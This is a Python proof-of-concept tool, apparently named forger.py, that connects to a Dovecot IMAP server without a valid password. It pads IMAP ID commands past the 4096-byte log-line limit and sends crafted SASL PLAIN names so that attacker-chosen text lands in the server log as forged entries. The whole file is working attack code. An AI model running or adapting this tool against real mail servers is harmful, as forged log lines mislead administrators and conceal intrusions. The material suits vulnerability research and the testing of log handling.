#!/usr/bin/env python3
"""A client without a password that writes into Dovecot's log.
usage: forger.py split PORT SOURCE TEXT [NAME [SHIFT]]
       forger.py name PORT SOURCE <NAME
split: IMAP connections whose ID makes a log message of more than 4096 bytes,
with TEXT at the border, or SHIFT bytes before it: one connection for each
number of digits that the process id may have.  NAME, as an atom or a quoted
string, is tried with a wrong password first.
name: one SASL PLAIN with NAME and a wrong password."""
import base64, socket, sys

mode, port, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]


class Client:
    def __init__(self):
        self.s = socket.socket()
        self.s.settimeout(20)
        self.s.bind((source, 0))
        self.s.connect(("127.0.0.1", port))
        self.f = self.s.makefile("rwb")
        self.f.readline()

    def send(self, line):
        self.f.write(line + b"\r\n")
        self.f.flush()

    def command(self, line):
        """sends it, and waits for its answer or the end of the connection"""
        self.send(line)
        tag = line.split()[0] + b" "
        while True:
            answer = self.f.readline()
            if not answer or answer.startswith(tag):
                return answer

    def end(self):
        self.command(b"z LOGOUT")
        self.s.close()


def pairs(size):
    """key-value pairs that take SIZE bytes of "k=v, " in the message; a value may have 80"""
    while size > 168:
        yield "k", "A" * 80
        size -= 84
    half = size // 2
    yield "k", "B" * (half - 4)
    yield "k", "C" * (size - half - 4)


def split(text, name=None, shift=0):
    # \x01, the level, the process id, a blank, the message, a line end: 4096 bytes
    for digits in range(1, 8):
        before = 4092 - digits - int(shift)
        client = Client()
        if name:
            client.command(b"a LOGIN %s wrong" % name.encode())
        # "ID sent: " + pairs + "k=" + TEXT
        words = [*pairs(before - len("ID sent: ") - len("k=")), ("k", text)]
        client.command(b"b ID (%s)" % b" ".join(b'"%s" "%s"' % (k.encode(), v.encode()) for k, v in words))
        client.end()


if mode == "split":
    split(*sys.argv[4:])
else:
    client = Client()
    client.send(b"a AUTHENTICATE PLAIN")
    client.f.readline()
    client.send(base64.b64encode(b"\0" + sys.stdin.buffer.read() + b"\0wrong"))
    client.f.readline()
    client.end()
